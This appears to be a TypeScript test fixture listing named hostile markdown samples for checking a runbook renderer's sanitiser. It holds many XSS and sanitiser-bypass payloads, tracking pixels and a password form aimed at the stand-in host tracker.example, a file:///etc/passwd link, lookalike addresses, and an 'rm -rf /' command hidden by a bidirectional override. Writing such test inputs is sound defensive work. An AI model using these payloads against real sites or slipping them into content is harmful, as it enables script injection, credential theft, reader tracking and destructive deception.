/** A text that tries to run something, to fetch something or to look like something else. */
export interface HostileMarkdown {
  readonly name: string;
  readonly markdown: string;
}

/** Every request to this host is a failure. */
export const HOSTILE_HOST = 'tracker.example';

const RUN = "alert('ran')";
const TRACK = `https://${HOSTILE_HOST}`;

const TEXTS: Readonly<Record<string, string>> = {
  // scripts
  script: `<script>${RUN}</script>`,
  'script in a paragraph': `Look <script>${RUN}</script> here`,
  'script from elsewhere': `<script src="${TRACK}/x.js"></script>`,
  'script in capitals': `<ScRiPt>${RUN}</sCrIpT>`,
  'script within a script': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script with a slash': `<script/x>${RUN}</script>`,
  'script that is not closed': `<script>${RUN}`,
  'script as a module': `<script type="module">import "${TRACK}/m.js"</script>`,
  'script in a list': `- one\n- <script>${RUN}</script>\n`,
  'script in a table': `| a |\n| - |\n| <script>${RUN}</script> |\n`,
  'script in a heading': `## <script>${RUN}</script> Diagnosis\n`,
  'script in a quote': `> [!WARNING]\n> <script>${RUN}</script>\n`,
  'script behind a fence that closes': `\`\`\`sh\nls\n\`\`\`\n<script>${RUN}</script>\n`,
  'script in the language of a fence': `\`\`\`"><script>${RUN}</script>\nls\n\`\`\`\n`,
  'script in the front matter': `---\ntitle: "<script>${RUN}</script>"\ntags: ["<img src=x onerror=${RUN}>"]\n---\n\nText\n`,
  'script in a footnote': `Text[^1]\n\n[^1]: <script>${RUN}</script>\n`,
  // handlers
  'image with a handler': `<img src=x onerror="${RUN}">`,
  'image with a handler behind a slash': `<img/src=x/onerror=${RUN}>`,
  'image with a handler behind a line': `<img src=x\nonerror\n=\n"${RUN}">`,
  'image with a handler in capitals': `<IMG SRC=x ONERROR="${RUN}">`,
  'handler of a body': `<body onload="${RUN}">text</body>`,
  'handler on a paragraph': `<p onmouseover="${RUN}" onclick="${RUN}">Here</p>`,
  'handler that needs no hand': `<input autofocus onfocus="${RUN}">`,
  'handler of details': `<details open ontoggle="${RUN}"><summary>More</summary>text</details>`,
  'handler of a marquee': `<marquee onstart="${RUN}">text</marquee>`,
  'handler of an animation': `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">text</p>`,
  'handler of a video': `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  'handler of a link': `<a href="#" onclick="${RUN}" onfocus="${RUN}" tabindex=1 autofocus>here</a>`,
  'handler in the title of a link': `[text](https://shop.example "\\" onmouseover=\\"${RUN}")`,
  'handler in the text of an image': `![x" onerror="${RUN}](x.png)`,
  'handler in an address': `[text](https://shop.example/"onmouseover="${RUN})`,
  'handler in an automatic link': `<https://shop.example/"onmouseover="alert(1)>`,
  'handler beside a checkbox': `- [ ] <input type="checkbox" onchange="${RUN}" checked> done\n`,
  // addresses that run
  'javascript address': `[text](javascript:${RUN})`,
  'javascript address in capitals': `[text](JaVaScRiPt:${RUN})`,
  'javascript address with a space': `[text](<  javascript:${RUN}>)`,
  'javascript address with a tab': `[text](java&#9;script:${RUN})`,
  'javascript address with a line': `[text](java&#10;script:${RUN})`,
  'javascript address with entities': `[text](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN})`,
  'javascript address with hexadecimal entities': `[text](&#x6A;avascript&#x3A;${RUN})`,
  'javascript address with a named colon': `[text](javascript&colon;${RUN})`,
  'javascript address with a control character': `[text](<\u0001javascript:${RUN}>)`,
  'javascript address in percents': `[text](javascript%3A${RUN})`,
  'javascript address as a reference': `[text][ref]\n\n[ref]: javascript:${RUN}\n`,
  'javascript address in brackets': `<javascript:${RUN}>`,
  'javascript address of an image': `![text](javascript:${RUN})`,
  'javascript address in HTML': `<a href="javascript:${RUN}">text</a>`,
  'javascript address in HTML with entities': `<a href="&#x6A;&#x61;vascript&#x3a;${RUN}">text</a>`,
  'javascript address with a comment': `[text](javascript://shop.example/%0A${RUN})`,
  'javascript address of a form': `<form action="javascript:${RUN}"><button>Go</button></form>`,
  'javascript address of a button': `<form id=f></form><button form=f formaction="javascript:${RUN}">Go</button>`,
  'vbscript address': `[text](vbscript:msgbox(1))`,
  'data address with HTML': `[text](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  'data address with SVG': `![text](data:image/svg+xml,%3Csvg%20onload%3D%22alert(1)%22%2F%3E)`,
  'blob and file addresses':
    '[one](blob:https://shop.example/1) [two](file:///etc/passwd)',
  'address without a scheme': `[text](//${HOSTILE_HOST}/x)`,
  // frames and the like
  iframe: `<iframe src="javascript:${RUN}"></iframe>`,
  'iframe with its own document': `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`,
  'iframe from elsewhere': `<iframe src="${TRACK}/frame"></iframe>`,
  object: `<object data="javascript:${RUN}"></object>`,
  'object from elsewhere': `<object data="${TRACK}/x.swf" type="application/x-shockwave-flash"></object>`,
  embed: `<embed src="data:text/html,<script>${RUN}</script>">`,
  applet: `<applet code="x" codebase="${TRACK}"></applet>`,
  frameset: `<frameset><frame src="javascript:${RUN}"></frameset>`,
  portal: `<portal src="${TRACK}/p"></portal>`,
  base: `<base href="${TRACK}/">\n\n[text](relative)\n\n![image](relative.png)\n`,
  'refresh by meta': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  'policy by meta': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'style sheet from elsewhere': `<link rel="stylesheet" href="${TRACK}/x.css">`,
  'address fetched in advance': `<link rel="prefetch" href="${TRACK}/p"><link rel="preload" as="script" href="${TRACK}/p.js">`,
  'import of HTML': `<link rel="import" href="${TRACK}/i.html">`,
  // drawings and formulas
  'SVG with a handler': `<svg onload="${RUN}"></svg>`,
  'SVG with a script': `<svg><script>${RUN}</script></svg>`,
  'SVG with a link': `<svg><a xlink:href="javascript:${RUN}"><text y="20">text</text></a></svg>`,
  'SVG with foreign HTML': `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  'SVG that animates an address': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">text</text></a></svg>`,
  'SVG that sets a handler': `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  'SVG that uses another': `<svg><use href="${TRACK}/x.svg#x"/><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
  'SVG with an image from elsewhere': `<svg><image href="${TRACK}/x.png"/><feImage href="${TRACK}/y.png"/></svg>`,
  'SVG that hides a tag in its style': `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  'MathML with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">text</maction></math>`,
  'MathML that changes its meaning': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'formula with a command': `$\\href{javascript:${RUN}}{x}$\n\n$$\n\\includegraphics{${TRACK}/x.png}\n$$\n`,
  'diagram with a click': `\`\`\`mermaid\ngraph TD\nA[<img src=x onerror=${RUN}>]-->B\nclick A "javascript:${RUN}"\n\`\`\`\n`,
  // images that tell who reads
  'tracking image': `![](${TRACK}/pixel.gif?who=reader)`,
  'tracking image in HTML': `<img src="${TRACK}/pixel.gif" width=1 height=1>`,
  'tracking image by reference': `![text][pixel]\n\n[pixel]: ${TRACK}/pixel.png\n`,
  'tracking image in several sizes': `<img srcset="${TRACK}/1x.png 1x, ${TRACK}/2x.png 2x">`,
  'tracking image in a picture': `<picture><source srcset="${TRACK}/x.webp"><img src="${TRACK}/x.png"></picture>`,
  'tracking image in a link': `[![text](${TRACK}/pixel.png)](https://shop.example)`,
  'tracking by a background': `<div style="background:url(${TRACK}/bg.png)">text</div><table background="${TRACK}/bg2.png"><tr><td>x</td></tr></table>`,
  'tracking by a style sheet': `<style>@import "${TRACK}/x.css"; body{background:url(${TRACK}/y.png)}</style>`,
  'tracking by a font': `<style>@font-face{font-family:x;src:url(${TRACK}/f.woff)}p{font-family:x}</style>`,
  'tracking by a video': `<video src="${TRACK}/v.mp4" poster="${TRACK}/v.png" autoplay></video>`,
  'tracking by a ping': `<a href="https://shop.example" ping="${TRACK}/ping">text</a>`,
  'tracking by a track': `<video><track src="${TRACK}/t.vtt" default></video>`,
  // texts that look like others
  'style that covers the page': `<div style="position:fixed;inset:0;z-index:99999;background:red">Log in</div>`,
  'class of the portal': `<div class="MuiDialog-root" id="root" name="location">text</div>`,
  'names that hide those of the page': `<a id="document"></a><img name="getElementById"><form name="body"><input name="children"></form>`,
  'form that asks for a password': `<form action="${TRACK}/login"><input type="password" name="p"><button type="submit">Log in</button></form>`,
  'text that is written backwards':
    'Run `rm -rf /\u202Etxt.sgol` and [\u202Eelpmaxe.pohs](https://shop.example)',
  'address that looks like another':
    '[https://shop.example](https://xn--shp-8cd.example) and [text](https://shop.example@login.invalid/)',
  'text that cannot be seen': 'kube\u200Bctl get pods\u2060 \uFEFF',
  // texts that change when they are read twice
  'comment that closes early': `<!--><img src=x onerror="${RUN}">-->`,
  'comment with a dash': `<!-- --!><img src=x onerror="${RUN}"> -->`,
  'text within noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'text within a textarea': `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  'text within a title': `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  'text within xmp': `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  'text within a template': `<template><img src=x onerror="${RUN}"></template>`,
  'text within select': `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  'form within a form': `<form><div></form><form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'declaration and instruction': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "${RUN}">]><![CDATA[<img src=x onerror=${RUN}>]]>`,
  'plain text for ever': `<plaintext><img src=x onerror="${RUN}">`,
  'element of its own': `<x-widget onclick="${RUN}" is="script"><slot onslotchange="${RUN}"></slot></x-widget>`,
  'popover that opens': `<button popovertarget=x>a</button><div popover id=x onbeforetoggle="${RUN}">text</div>`,
  'shadow that is declared': `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  'character that ends a string': `<a href="https://shop.example/\u2028" title="\u2029${RUN}">text</a>`,
  'nothing in the middle of a name': `<scr\u0000ipt>${RUN}</scr\u0000ipt> <a href="java\u0000script:${RUN}">text</a>`,
};

/** What no reader of a runbook may be harmed by. */
export const HOSTILE_MARKDOWN: readonly HostileMarkdown[] = Object.entries(
  TEXTS,
).map(([name, markdown]) => ({ name, markdown }));
